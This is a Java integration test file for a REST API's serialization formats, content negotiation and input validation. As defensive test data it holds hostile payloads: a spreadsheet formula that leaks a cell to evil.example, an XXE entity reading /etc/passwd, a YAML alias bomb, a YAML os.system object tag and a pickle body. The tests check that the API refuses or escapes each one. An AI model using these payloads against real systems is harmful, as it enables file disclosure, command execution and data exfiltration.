package io.pistonee.it;

import static io.pistonee.it.Problems.assertProblem;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.net.URL;
import java.net.http.HttpResponse;
import java.time.OffsetDateTime;
import java.util.List;
import java.util.Map;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.w3c.dom.Element;

/**
 * Every format both ways on the example application: each emitter read back with a real parser,
 * format selection (suffix, {@code ?format=}, {@code Accept} with q-values), errors in the selected
 * format, request bodies in every format read back as JSON, and hostile bodies refused with nothing
 * written. The django format is loaded by Django's own deserializer; the unpaged export
 * ({@code /api/export}, over 3,000 generated posts) is read in every streamed format.
 */
@ExtendWith(ArquillianExtension.class)
class FormatsIT {

    private static final List<String> POST_FIELDS =
            List.of("id", "title", "content", "author", "created_on", "content_length", "resource_uri");
    private static final List<String> FORMATS = List.of("json", "yaml", "xml", "csv", "pickle", "django", "django-xml");

    /** Generated posts (ids from 1,000,001) beside the seeded ones, for the unpaged export. */
    private static final int GENERATED = 3000;

    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.withConfig(Deployments.example(), "blog.generated-posts=" + GENERATED);
    }

    @ArquillianResource
    URL base;

    private Http http;

    /** Authenticated as an author, who sees every field and may write; anonymous callers are SecurityIT's. */
    @BeforeEach
    void client() {
        http = new Http(base).as("testuser", "foobar");
    }

    @Test
    void yamlListsThePostsWithTheirFields() {
        HttpResponse<String> response = http.get("posts?format=yaml");

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(contentType(response)).isEqualTo("application/yaml");
        List<Map<String, Object>> posts = Formats.yaml(response.body());
        assertThat(posts).hasSize(Http.json(http.get("posts")).size());
        assertThat(posts.get(0).keySet()).containsExactlyElementsOf(POST_FIELDS);
        assertThat(Http.json(http.get("posts")).get(0).get("title").asText())
                .isEqualTo(posts.get(0).get("title"));
    }

    @Test
    void xmlHasAResponseRootAndAResourcePerPost() {
        HttpResponse<String> response = http.get("posts?format=xml");

        assertThat(contentType(response)).isEqualTo("application/xml");
        Element root = Formats.xml(response.body());
        assertThat(root.getTagName()).isEqualTo("response");
        List<Element> resources = Formats.children(root);
        assertThat(resources).extracting(Element::getTagName).containsOnly("resource");
        assertThat(Formats.children(resources.get(0)))
                .extracting(Element::getTagName)
                .containsExactlyElementsOf(POST_FIELDS);
        Element author = Formats.children(resources.get(0)).get(3);
        assertThat(Formats.children(author)).extracting(Element::getTagName).containsExactly("username");
    }

    @Test
    void csvHasAHeaderOfTheShapedFieldsFlattened() {
        HttpResponse<String> response = http.get("posts?format=csv");

        assertThat(contentType(response)).isEqualTo("text/csv");
        List<List<String>> rows = Formats.csv(response.body());
        assertThat(rows.get(0))
                .containsExactly(
                        "id", "title", "content", "author.username", "created_on", "content_length", "resource_uri");
        JsonNode json = Http.json(http.get("posts"));
        assertThat(rows).hasSize(json.size() + 1);
        assertThat(rows.get(1).get(3))
                .isEqualTo(json.get(0).get("author").get("username").asText());
    }

    @Test
    void picklesLoadInPythonAsTheJsonData() throws Exception {
        HttpResponse<byte[]> response = http.bytes("posts/1?format=pickle");

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(contentType(response)).isEqualTo("application/python-pickle");
        JsonNode loaded = new com.fasterxml.jackson.databind.ObjectMapper().readTree(Formats.unpickle(response.body()));
        assertThat(loaded).isEqualTo(Http.json(http.get("posts/1")));
    }

    @Test
    void djangoFormatCarriesModelPkAndStoredFields() {
        HttpResponse<String> response = http.get("posts/1?format=django");

        assertThat(contentType(response)).isEqualTo("application/vnd.django+json");
        JsonNode items = Http.json(response);
        assertThat(items.size()).isEqualTo(1);
        JsonNode item = items.get(0);
        assertThat(item.get("model").asText()).isEqualTo("blog.blogpost");
        assertThat(item.get("pk").asLong()).isEqualTo(1);
        assertThat(item.get("fields").fieldNames())
                .toIterable()
                .containsExactly("title", "content", "author", "created_on");
        assertThat(item.get("fields").get("author").isIntegralNumber()).isTrue();
    }

    @Test
    void djangosOwnDeserializerLoadsTheDjangoFormat() {
        String list = http.get("posts?format=django&limit=10").body();
        String one = http.get("posts/1?format=django").body();

        JsonNode loaded = Http.json(Formats.djangoLoad(list));
        JsonNode emitted = Http.json(list);
        JsonNode json = Http.json(http.get("posts?limit=10"));
        assertThat(loaded).hasSize(10);
        Map<String, Long> authors = new java.util.HashMap<>();
        for (JsonNode post : json) {
            JsonNode stored = stored(loaded, post.get("id").asLong());
            assertThat(stored.get("model").asText()).isEqualTo("blog.blogpost");
            assertThat(stored.get("fields").get("title").asText())
                    .isEqualTo(post.get("title").asText());
            assertThat(stored.get("fields").get("content").asText())
                    .isEqualTo(post.get("content").asText());
            assertThat(OffsetDateTime.parse(
                                    stored.get("fields").get("created_on").asText())
                            .toInstant())
                    .isEqualTo(OffsetDateTime.parse(post.get("created_on").asText())
                            .toInstant());
            long author = stored.get("fields").get("author").asLong();
            assertThat(author)
                    .isEqualTo(stored(emitted, post.get("id").asLong())
                            .get("fields")
                            .get("author")
                            .asLong());
            assertThat(authors.computeIfAbsent(
                            post.get("author").get("username").asText(), name -> author))
                    .as("one author, one key")
                    .isEqualTo(author);
        }
        JsonNode single = Http.json(Formats.djangoLoad(one));
        assertThat(single).hasSize(1);
        assertThat(single.get(0).get("pk").asLong()).isEqualTo(1);
        assertThat(single.get(0).get("fields").get("title").asText()).isEqualTo("Hello, Piston EE");
    }

    @Test
    void djangosOwnDeserializerLoadsTheDjangoXmlFormatAsTheJsonFlavour() {
        HttpResponse<String> response = http.get("posts?format=django-xml&limit=10");
        String one = http.get("posts/1.django-xml").body();

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(contentType(response)).isEqualTo("application/vnd.django+xml");
        assertThat(response.body())
                .startsWith("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<django-objects version=\"1.0\">"
                        + "<object model=\"blog.blogpost\" pk=\"")
                .contains("<field name=\"title\" type=\"CharField\">", "<field name=\"content\" type=\"TextField\">")
                .contains("<field name=\"author\" rel=\"ManyToOneRel\" to=\"blog.author\">")
                .containsPattern("<field name=\"created_on\" type=\"DateTimeField\">[0-9T:.-]+\\+00:00</field>");
        JsonNode fromXml = Http.json(Formats.djangoLoad(response.body(), "xml"));
        JsonNode fromJson = Http.json(
                Formats.djangoLoad(http.get("posts?format=django&limit=10").body()));
        assertThat(fromXml).hasSize(10).isEqualTo(fromJson);
        JsonNode single = Http.json(Formats.djangoLoad(one, "xml"));
        assertThat(single).hasSize(1);
        assertThat(single.get(0).get("fields").get("title").asText()).isEqualTo("Hello, Piston EE");
    }

    private static JsonNode stored(JsonNode items, long pk) {
        for (JsonNode item : items) {
            if (item.get("pk").asLong() == pk) {
                return item;
            }
        }
        throw new AssertionError("no pk " + pk + " in " + items);
    }

    @Test
    void csvCellsASpreadsheetWouldRunAsFormulasAreEscaped() {
        String title = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        HttpResponse<String> created =
                http.post("posts", "{\"title\":" + new TextNode(title) + ",\"content\":\"-1 is a number, -x is not\"}");
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        String id = Http.json(created).get("id").asText();

        List<List<String>> rows =
                Formats.csv(http.get("posts/" + id + "?format=csv").body());

        assertThat(rows.get(0).get(1)).isEqualTo("title");
        assertThat(rows.get(1).get(0)).isEqualTo(id);
        assertThat(rows.get(1).get(1)).isEqualTo("'" + title);
        assertThat(rows.get(1).get(2)).isEqualTo("'-1 is a number, -x is not");
        assertThat(Http.json(http.get("posts/" + id)).get("title").asText()).isEqualTo(title);
        http.delete("posts/" + id);
    }

    @Test
    void theExportIsForAdminsOnly() {
        HttpResponse<String> anonymous = new Http(base).get("export");

        assertProblem(anonymous, 401);
        assertThat(anonymous.headers().firstValue("WWW-Authenticate"))
                .hasValueSatisfying(challenge -> assertThat(challenge).contains("Basic", "Bearer"));
        assertProblem(http.get("export?format=csv"), 403);
        assertProblem(new Http(base).as("otheruser", "barfoo").get("export"), 403);
    }

    @Test
    void theExportStreamsEveryPostUnpagedInEveryStreamedFormat() {
        Http admin = new Http(base).as("admin", "adminpass");
        int posts = count();
        assertThat(posts).isGreaterThan(GENERATED);

        HttpResponse<String> response = admin.get("export");
        JsonNode json = Http.json(response);
        List<List<String>> csv = Formats.csv(admin.get("export?format=csv").body());
        List<Map<String, Object>> yaml =
                Formats.yaml(admin.get("export?format=yaml").body());
        List<Element> xml = Formats.children(Formats.xml(admin.get("export.xml").body()));
        List<Element> djangoXml = Formats.children(
                Formats.xml(admin.get("export?format=django-xml").body()));

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue("Link")).isEmpty();
        assertThat(json).hasSize(posts);
        List<Long> ids = new java.util.ArrayList<>();
        json.forEach(post -> ids.add(post.get("id").asLong()));
        assertThat(ids).isSorted().doesNotHaveDuplicates().contains(1L, 1_000_001L, 1_000_000L + GENERATED);
        assertThat(json.get(0).fieldNames()).toIterable().containsExactlyElementsOf(POST_FIELDS);
        JsonNode last = json.get(posts - 1);
        assertThat(last.get("title").asText()).isEqualTo("Generated post " + GENERATED);
        assertThat(last.get("author").get("username").asText()).isEqualTo("testuser");
        assertThat(last.get("resource_uri").asText())
                .endsWith("/api/posts/" + last.get("id").asText());

        assertThat(csv).hasSize(posts + 1);
        assertThat(csv.get(0))
                .containsExactly(
                        "id", "title", "content", "author.username", "created_on", "content_length", "resource_uri");
        assertThat(csv.subList(1, csv.size()))
                .extracting(row -> Long.valueOf(row.get(0)))
                .isEqualTo(ids);
        assertThat(csv.get(posts)).containsExactly(textsOf(last).toArray(String[]::new));

        assertThat(yaml)
                .extracting(post -> ((Number) post.get("id")).longValue())
                .isEqualTo(ids);
        assertThat(yaml.get(posts - 1).get("content"))
                .isEqualTo(last.get("content").asText());

        assertThat(xml).extracting(Element::getTagName).containsOnly("resource");
        assertThat(xml)
                .extracting(post -> Long.valueOf(Formats.children(post).get(0).getTextContent()))
                .isEqualTo(ids);
        assertThat(Formats.children(xml.get(posts - 1)).get(1).getTextContent())
                .isEqualTo("Generated post " + GENERATED);

        assertThat(djangoXml)
                .extracting(post -> Long.valueOf(post.getAttribute("pk")))
                .isEqualTo(ids);
        assertThat(Formats.children(djangoXml.get(posts - 1)).get(0).getTextContent())
                .isEqualTo("Generated post " + GENERATED);
    }

    /** A post's values in CSV's order, the author flattened. */
    private static List<String> textsOf(JsonNode post) {
        return List.of(
                post.get("id").asText(),
                post.get("title").asText(),
                post.get("content").asText(),
                post.get("author").get("username").asText(),
                post.get("created_on").asText(),
                post.get("content_length").asText(),
                post.get("resource_uri").asText());
    }

    @Test
    void aSuffixSelectsTheFormat() {
        HttpResponse<String> yaml = http.get("posts.yaml");
        HttpResponse<String> xml = http.get("posts/1.xml");
        HttpResponse<String> csv = http.get("stats.csv");

        assertThat(contentType(yaml)).isEqualTo("application/yaml");
        assertThat(contentType(xml)).isEqualTo("application/xml");
        assertThat(Formats.children(Formats.xml(xml.body())).get(0).getTextContent())
                .isEqualTo("1");
        assertThat(Formats.csv(csv.body()).get(0)).containsExactly("posts", "authors", "latest");
        assertProblem(http.get("posts.nope"), 406);
        assertProblem(http.get("posts/1.nope"), 404);
    }

    @Test
    void formatNamesMatchInAnyCaseAsParameterAndAsSuffix() {
        assertThat(contentType(http.get("posts?format=YAML"))).isEqualTo("application/yaml");
        assertThat(contentType(http.get("posts.YAML"))).isEqualTo("application/yaml");
        HttpResponse<String> item = http.get("posts/1.Xml");
        assertThat(contentType(item)).isEqualTo("application/xml");
        assertThat(Formats.children(Formats.xml(item.body())).get(0).getTextContent())
                .isEqualTo("1");
    }

    @Test
    void aFormatGivenTwiceWithDifferentValuesIs400AndWithTheSameValueIsServed() {
        int before = count();

        JsonNode problem =
                assertProblem(http.post("posts?format=json&format=xml", "{\"title\":\"x\",\"content\":\"y\"}"), 400);
        assertProblem(http.get("posts?format=json&format=yaml"), 400);

        assertThat(problem.get("detail").asText()).contains("'format'");
        assertThat(count()).isEqualTo(before);
        assertThat(contentType(http.get("posts?format=json&format=JSON"))).isEqualTo("application/json");
    }

    @Test
    void formatParameterWinsOverSuffixAndAccept() {
        HttpResponse<String> query = http.get("posts/1.yaml?format=json", "Accept", "application/xml");
        HttpResponse<String> suffix = http.get("posts/1.yaml", "Accept", "application/xml");

        assertThat(contentType(query)).isEqualTo("application/json");
        assertThat(contentType(suffix)).isEqualTo("application/yaml");
    }

    @Test
    void acceptIsReadWithQualitiesAndWildcards() {
        assertThat(type(http.get("posts/1", "Accept", "application/json;q=0.5, application/x-yaml")))
                .isEqualTo("application/x-yaml");
        assertThat(type(http.get("posts/1", "Accept", "application/json;q=0.5, application/*")))
                .isEqualTo("application/yaml");
        assertThat(type(http.get("posts/1", "Accept", "text/csv;q=0.9, text/*;q=0.1")))
                .isEqualTo("text/csv");
        assertThat(type(http.get("posts/1", "Accept", "text/*"))).startsWith("text/");
        assertThat(type(http.get("posts/1", "Accept", "application/xml;q=0, */*;q=0.1")))
                .isEqualTo("application/json");
        assertThat(type(http.get("posts/1", "Accept", "text/xml"))).isEqualTo("text/xml");
        assertThat(type(http.get("posts/1"))).isEqualTo("application/json");
    }

    @Test
    void unknownFormatIs406ListingEveryFormatBeforeTheHandlerRuns() {
        int before = count();

        JsonNode problem = assertProblem(http.post("posts?format=nope", "{\"title\":\"x\",\"content\":\"y\"}"), 406);
        assertProblem(http.post("posts.nope", "{\"title\":\"x\",\"content\":\"y\"}"), 406);

        assertThat(problem.get("formats")).extracting(JsonNode::asText).containsExactlyElementsOf(FORMATS);
        assertThat(count()).isEqualTo(before);
    }

    @Test
    void errorsAreEmittedInTheSelectedFormatWhereItCarriesThem() {
        HttpResponse<String> yaml = http.get("posts/999999?format=yaml");
        HttpResponse<String> xml = http.get("posts/999999.xml");
        HttpResponse<String> csv = http.get("posts/999999?format=csv");

        assertThat(yaml.statusCode()).isEqualTo(404);
        assertThat(contentType(yaml)).isEqualTo("application/problem+yaml");
        Map<String, Object> problem = Formats.yaml(yaml.body());
        assertThat(problem).containsEntry("status", 404).containsEntry("title", "Not Found");
        assertThat(contentType(xml)).isEqualTo("application/problem+xml");
        Element root = Formats.xml(xml.body());
        assertThat(root.getLocalName()).isEqualTo("problem");
        assertThat(root.getNamespaceURI()).isEqualTo("urn:ietf:rfc:7807");
        assertProblem(csv, 404);
    }

    @Test
    void everyResponseVariesOnAccept() {
        for (String format : FORMATS) {
            assertThat(http.get("posts/1?format=" + format).headers().firstValue("Vary"))
                    .hasValueSatisfying(vary -> assertThat(vary).contains("Accept"));
        }
    }

    @Test
    void yamlXmlFormAndMultipartBodiesCreatePostsReadBackAsJson() {
        String boundary = "b0undary";
        String multipart = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nFrom a form\r\n"
                + "--" + boundary + "\r\nContent-Disposition: form-data; name=\"content\"\r\n\r\nMulti\r\npart\r\n"
                + "--" + boundary + "--\r\n";
        Map<String, String[]> bodies = Map.of(
                "YAML post", new String[] {"application/yaml", "title: YAML post\ncontent: |\n  Two\n  lines\n"},
                "XML post",
                        new String[] {
                            "application/xml", "<post><title>XML post</title><content>A &amp; B</content></post>"
                        },
                "Form post",
                        new String[] {"application/x-www-form-urlencoded", "title=Form+post&content=%C3%A9t%C3%A9"},
                "From a form", new String[] {"multipart/form-data; boundary=" + boundary, multipart});
        Map<String, String> contents = Map.of(
                "YAML post", "Two\nlines\n", "XML post", "A & B", "Form post", "été", "From a form", "Multi\r\npart");

        for (var body : bodies.entrySet()) {
            HttpResponse<String> created =
                    http.post("posts?format=yaml", body.getValue()[1], "Content-Type", body.getValue()[0]);

            assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
            Map<String, Object> yaml = Formats.yaml(created.body());
            JsonNode read = Http.json(http.get("posts/" + yaml.get("id")));
            assertThat(read.get("title").asText()).isEqualTo(body.getKey());
            assertThat(read.get("content").asText()).isEqualTo(contents.get(body.getKey()));
            http.delete("posts/" + yaml.get("id"));
        }
    }

    @Test
    void invalidYamlBodiesAnswerInTheSelectedFormatAndWriteNothing() {
        int before = count();

        HttpResponse<String> response =
                http.post("posts.xml", "title: ''\ncontent: x\n", "Content-Type", "application/yaml");

        assertThat(response.statusCode()).isEqualTo(400);
        assertThat(contentType(response)).isEqualTo("application/problem+xml");
        assertThat(count()).isEqualTo(before);
    }

    @Test
    void hostileBodiesAre4xxAndWriteNothing() {
        int before = count();
        String aliasBomb = "title: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
                + "content: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n";
        String xxe = "<?xml version=\"1.0\"?><!DOCTYPE post [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                + "<post><title>&xxe;</title><content>x</content></post>";
        String deep = "{\"title\":\"t\",\"content\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}";
        String huge = "{\"title\":\"t\",\"content\":\"" + "x".repeat(10 * 1024 * 1024) + "\"}";

        assertProblem(http.post("posts", aliasBomb, "Content-Type", "application/yaml"), 400);
        assertThat(assertProblem(http.post("posts", xxe, "Content-Type", "application/xml"), 400)
                        .toString())
                .doesNotContain("root:");
        assertThat(assertProblem(http.post("posts", deep), 400).get("detail").asText())
                .contains("64");
        assertProblem(http.post("posts", huge), 413);
        assertProblem(http.post("posts", "a: !!python/object/apply:os.system [id]", "Content-Type", "text/yaml"), 400);
        assertProblem(http.post("posts", "\u0080\u0002}q\u0000.", "Content-Type", "application/python-pickle"), 415);

        assertThat(count()).isEqualTo(before);
    }

    @Test
    void unsupportedBodyTypeIs415ListingEveryParser() {
        JsonNode problem = assertProblem(http.post("posts", "x", "Content-Type", "text/plain"), 415);

        assertThat(problem.get("detail").asText())
                .contains(
                        "application/json",
                        "application/yaml",
                        "application/xml",
                        "application/x-www-form-urlencoded",
                        "multipart/form-data");
    }

    @Test
    void clientsNarrowTheFieldsButNeverWidenThem() {
        JsonNode narrowed = Http.json(http.get("posts/1?fields=title,author(username)"));
        JsonNode widened = Http.json(http.get("posts/1?fields=title,version,author(id,username)"));
        List<List<String>> csv =
                Formats.csv(http.get("posts?format=csv&fields=id,title").body());

        assertThat(narrowed.toString())
                .isEqualTo("{\"title\":\"Hello, Piston EE\",\"author\":{\"username\":\"testuser\"}}");
        assertThat(widened).isEqualTo(narrowed);
        assertThat(csv.get(0)).containsExactly("id", "title");
        assertProblem(http.get("posts/1?fields=title,("), 400);
    }

    @Test
    void jsonpIsOffByDefault() {
        HttpResponse<String> response = http.get("posts/1?callback=steal");

        assertThat(contentType(response)).isEqualTo("application/json");
        assertThat(response.body()).startsWith("{");
    }

    private static String type(HttpResponse<String> response) {
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        return contentType(response);
    }

    /** The type and subtype (servers may add a charset parameter: RESTEasy does to XML). */
    private static String contentType(HttpResponse<?> response) {
        return response.headers()
                .firstValue("Content-Type")
                .orElseThrow()
                .split(";")[0]
                .strip();
    }

    private int count() {
        return Http.json(http.get("stats")).get("posts").asInt();
    }
}
